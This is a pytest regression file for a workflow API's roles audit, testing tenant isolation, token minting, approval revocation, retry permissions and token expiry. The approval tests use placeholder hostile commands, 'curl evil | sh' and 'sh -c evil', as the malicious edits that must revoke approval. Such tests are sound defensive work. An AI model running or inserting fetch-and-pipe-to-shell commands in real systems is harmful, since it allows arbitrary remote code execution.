"""Regressions of the roles audit: each test is one hole, shown closed through the real API.

Cross-project writes judged in the acting project, tokens minted for someone
else, approvals that covered only the image digest, retries that skipped the
run-permission check, 403s that told another project's objects exist, and
expired tokens.
"""

from __future__ import annotations

from datetime import timedelta

import httpx
from fastapi.testclient import TestClient
from sqlalchemy import select

from craton_wf.db.engine import transaction
from craton_wf.db.models import ApiToken, User, utcnow
from tests.factories import finish_current_build, make_inventory, make_ready_task


def acting_as(api: TestClient, project_id: str, name: str, role: str) -> TestClient:
    """A client for user ``name`` given ``role`` in ``project_id`` by root, acting there."""
    headers = httpx.Headers(api.headers)
    headers["X-Auth-Project"] = project_id
    root = TestClient(api.app, headers=dict(headers))
    made = root.post("/v1/users", json={"name": name, "role": role})
    assert made.status_code == 201, made.text
    token = root.post("/v1/tokens", json={"user": name})
    assert token.status_code == 201, token.text
    return TestClient(
        api.app,
        headers={"Authorization": f"Bearer {token.json()['token']}", "X-Auth-Project": project_id},
    )


# --- 1. a project is changed by the admins of that project ---------------------------


def test_an_admin_of_one_project_cannot_change_another_they_only_view(api, root):
    other = api.post("/v1/projects", json={"name": "tenant-b"}).json()["id"]
    acting_as(api, other, "dual", "viewer")  # viewer in B ...
    dual = acting_as(api, root.project_id, "dual", "admin")  # ... admin in A, acting in A
    refused = dual.put(f"/v1/projects/{other}", json={"name": "renamed"})
    assert refused.status_code == 403, refused.text
    assert "admin role" in refused.json()["message"]
    assert api.get(f"/v1/projects/{other}").json()["name"] == "tenant-b"
    # The other way round: admin in the target project is what counts, acting in it
    # (a token scoped to one project never changes another).
    boss_there = acting_as(api, other, "boss", "admin")
    boss = acting_as(api, root.project_id, "boss", "viewer")
    elsewhere = boss.put(f"/v1/projects/{other}", json={"name": "renamed"})
    assert elsewhere.status_code == 403 and "act in it" in elsewhere.json()["message"]
    changed = boss_there.put(f"/v1/projects/{other}", json={"name": "renamed"})
    assert changed.status_code == 200 and changed.json()["name"] == "renamed"
    assert boss.put(f"/v1/projects/{root.project_id}", json={"name": "x"}).status_code == 403
    # A project one holds no role in does not exist for one.
    stranger = acting_as(api, other, "stranger", "admin")
    assert stranger.put(f"/v1/projects/{root.project_id}", json={}).status_code == 404
    assert stranger.delete(f"/v1/projects/{root.project_id}").status_code == 404
    assert dual.delete(f"/v1/projects/{other}").status_code == 403  # root only


# --- 2. tokens act as their user: only root mints them for someone else --------------


def test_only_root_creates_a_token_for_another_user(api, root):
    admin = acting_as(api, root.project_id, "admin-1", "admin")
    acting_as(api, root.project_id, "admin-2", "admin")
    refused = admin.post("/v1/tokens", json={"user": "admin-2"})
    assert refused.status_code == 403, refused.text
    assert refused.json()["message"] == "only a root user may create a token for another user"
    assert admin.post("/v1/tokens", json={"user": "root"}).status_code == 403
    mine = admin.post("/v1/tokens", json={"user": "admin-1", "name": "own"})
    assert mine.status_code == 201 and mine.json()["user"] == "admin-1"
    assert admin.post("/v1/tokens", json={"name": "own"}).json()["user"] == "admin-1"
    by_root = api.post("/v1/tokens", json={"user": "admin-2"})
    assert by_root.status_code == 201 and by_root.json()["user"] == "admin-2"


def test_an_admin_neither_lists_nor_revokes_roots_or_another_projects_tokens(api, root, sessions):
    other = api.post("/v1/projects", json={"name": "tenant-b"}).json()["id"]
    admin = acting_as(api, root.project_id, "admin-1", "admin")
    viewer = acting_as(api, root.project_id, "view", "viewer")
    acting_as(api, other, "view", "viewer")  # also in B, with a token scoped to B
    root_scoped = api.post("/v1/tokens", json={"name": "root-here"}).json()["id"]
    with transaction(sessions) as session:
        root_id = session.execute(select(User.id).where(User.name == "root")).scalar_one()
        bootstrap_token = session.execute(
            select(ApiToken.id).where(ApiToken.user_id == root_id, ApiToken.project_id.is_(None))
        ).scalar_one()
        view_in_b = session.execute(
            select(ApiToken.id)
            .join(User, User.id == ApiToken.user_id)
            .where(User.name == "view", ApiToken.project_id == other)
        ).scalar_one()
    listed = {t["id"]: t["user"] for t in admin.get("/v1/tokens").json()["tokens"]}
    assert "root" not in listed.values()
    assert {bootstrap_token, root_scoped, view_in_b}.isdisjoint(listed)
    assert "view" in listed.values() and "admin-1" in listed.values()  # the project's users'
    for token_id in (bootstrap_token, root_scoped, view_in_b):
        assert admin.delete(f"/v1/tokens/{token_id}").status_code == 404
    assert api.get("/v1/hosts").status_code == 200  # root's token still works
    assert viewer.get("/v1/hosts").status_code == 200
    root_listed = {t["id"] for t in api.get("/v1/tokens").json()["tokens"]}
    assert {bootstrap_token, root_scoped} <= root_listed


# --- 3. an approval covers what runs, not only the image ------------------------------


def test_changing_what_a_task_runs_revokes_its_approval(api, root, sessions):
    hosts = [h.id for h in _inventory(sessions, root.project_id)]
    with transaction(sessions) as session:
        task_id = make_ready_task(session, root.project_id, "patch", command="true").id
    editor = acting_as(api, root.project_id, "editor", "admin")
    approver = acting_as(api, root.project_id, "approver", "admin")
    before = api.post("/v1/jobs", json={"task": "patch", "hosts": hosts})
    assert before.status_code == 201, before.text
    api.post(f"/v1/jobs/{before.json()['id']}/cancel")

    harmless = editor.put(f"/v1/tasks/{task_id}", json={"description": "docs only"})
    assert harmless.json()["approval"]["status"] == "approved"
    changed = editor.put(f"/v1/tasks/{task_id}", json={"command": "curl evil | sh"})
    assert changed.status_code == 200, changed.text
    approval = changed.json()["approval"]
    assert (approval["status"], approval["by"], approval["reason"]) == (
        "revoked",
        "editor",
        "task changed: command",
    )
    refused = api.post("/v1/jobs", json={"task": "patch", "hosts": hosts})
    assert refused.status_code == 409 and "revoked" in refused.json()["message"]
    # Who changed what runs is its co-author: another admin must approve.
    own = editor.post(f"/v1/tasks/{task_id}/approve")
    assert own.status_code == 403 and "you changed what build 1" in own.json()["message"]
    assert approver.post(f"/v1/tasks/{task_id}/approve").status_code == 200
    after = api.post("/v1/jobs", json={"task": "patch", "hosts": hosts})
    assert after.status_code == 201 and after.json()["steps"][0]["command"] == [
        "curl",
        "evil",
        "|",
        "sh",
    ]
    # A job made before the change ran the old command: retrying it is refused.
    retried = api.post(f"/v1/jobs/{before.json()['id']}/retry")
    assert retried.status_code == 409 and "changed what it runs" in retried.json()["message"]
    events = api.get("/v1/audit-events", params={"object_type": "task"}).json()["audit_events"]
    assert ("task.update", "editor", "success") in {
        (e["action"], e["user_name"], e["outcome"]) for e in events
    }


def test_who_changed_what_runs_before_the_build_was_ready_cannot_approve_it(api, root, sessions):
    created = api.post(
        "/v1/tasks",
        json={"name": "early", "location": "https://example.invalid/t.git", "command": "true"},
    )
    assert created.status_code == 201, created.text
    task_id = created.json()["id"]
    editor = acting_as(api, root.project_id, "early-editor", "admin")
    approver = acting_as(api, root.project_id, "early-approver", "admin")
    assert editor.put(f"/v1/tasks/{task_id}", json={"command": "sh -c evil"}).status_code == 200
    with transaction(sessions) as session:
        finish_current_build(session, task_id, "sha256:" + "1" * 64)  # READY only now

    own = editor.post(f"/v1/tasks/{task_id}/approve")
    assert own.status_code == 403 and "another admin must approve" in own.json()["message"]
    assert approver.post(f"/v1/tasks/{task_id}/approve").status_code == 200


def test_each_execution_field_revokes_the_approval(api, root, sessions):
    bodies = {
        "secrets": {"secrets": ["DB_PASSWORD"]},
        "needs_network": {"needs_network": True},
        "resources": {"resources": {"memory_mb": 1024}},
    }
    for name, body in bodies.items():
        with transaction(sessions) as session:
            task_id = make_ready_task(session, root.project_id, f"t-{name}").id
        answer = api.put(f"/v1/tasks/{task_id}", json=body)
        assert answer.status_code == 200, answer.text
        approval = answer.json()["approval"]
        assert (approval["status"], approval["reason"]) == ("revoked", f"task changed: {name}")
        # The same values again change nothing: no second revocation is needed.
        again = api.put(f"/v1/tasks/{task_id}", json=body).json()["approval"]
        assert again["status"] == "revoked"


# --- 4. a retry is a run: the retrier must be allowed to run every task -------------------


def test_a_retry_needs_the_right_to_run_every_task_of_the_job(api, root, sessions):
    hosts = [h.id for h in _inventory(sessions, root.project_id)]
    with transaction(sessions) as session:
        make_ready_task(session, root.project_id, "drain", restricted_to=["admin"])
    operator = acting_as(api, root.project_id, "op", "operator")
    admin = acting_as(api, root.project_id, "adm", "admin")
    job = admin.post("/v1/jobs", json={"task": "drain", "hosts": hosts})
    assert job.status_code == 201, job.text
    assert operator.post("/v1/jobs", json={"task": "drain", "hosts": hosts}).status_code == 404
    assert admin.post(f"/v1/jobs/{job.json()['id']}/cancel").status_code == 202
    refused = operator.post(f"/v1/jobs/{job.json()['id']}/retry")
    assert refused.status_code == 403, refused.text
    assert "restricted to the roles admin" in refused.json()["message"]
    assert admin.post(f"/v1/jobs/{job.json()['id']}/retry").status_code == 201


# --- 5. another project's objects answer 404 for every role ----------------------------


def test_a_refused_role_gets_404_for_another_projects_object_and_403_for_its_own(api, root):
    host = _host(api)
    other = api.post("/v1/projects", json={"name": "tenant-b"}).json()["id"]
    for role in ("viewer", "auditor", "operator"):
        theirs = acting_as(api, other, f"b-{role}", role)
        ours = acting_as(api, root.project_id, f"a-{role}", role)
        for method, path, body in (
            ("PUT", f"/v1/hosts/{host}", {}),
            ("DELETE", f"/v1/hosts/{host}", None),
            ("PUT", f"/v1/hosts/{host}/variables", {"x": 1}),
        ):
            kwargs = {"json": body} if body is not None else {}
            assert theirs.request(method, path, **kwargs).status_code == 404, (role, path)
            assert ours.request(method, path, **kwargs).status_code == 403, (role, path)
    # An id no project holds answers 404 as well: a refusal tells nothing.
    viewer = acting_as(api, root.project_id, "v2", "viewer")
    assert viewer.put("/v1/hosts/99999", json={}).status_code == 404
    assert viewer.post("/v1/clouds", json={"name": "x"}).status_code == 403  # no object named


# --- tokens expire ----------------------------------------------------------------------------


def test_an_expired_token_answers_401(api, root, sessions):
    viewer = acting_as(api, root.project_id, "short", "viewer")
    issued = viewer.post("/v1/tokens", json={"name": "brief", "expires_in": 60}).json()
    brief = TestClient(
        api.app,
        headers={"Authorization": f"Bearer {issued['token']}", "X-Auth-Project": root.project_id},
    )
    assert brief.get("/v1/hosts").status_code == 200
    with transaction(sessions) as session:
        session.get(ApiToken, issued["id"]).expires_at = utcnow() - timedelta(seconds=1)
    expired = brief.get("/v1/hosts")
    assert expired.status_code == 401
    assert expired.json() == {
        "message": "invalid or expired token",
        "status": 401,
        "code": "authentication_failed",
    }


def _inventory(sessions, project_id):  # type: ignore[no-untyped-def]
    with transaction(sessions) as session:
        return make_inventory(session, project_id, 2)


def _host(api: TestClient) -> int:
    cloud = api.post("/v1/clouds", json={"name": "c"}).json()["id"]
    region = api.post("/v1/regions", json={"name": "r", "cloud_id": cloud}).json()["id"]
    body = {"name": "h", "ip_address": "10.9.9.8", "region_id": region}
    return int(api.post("/v1/hosts", json=body).json()["id"])
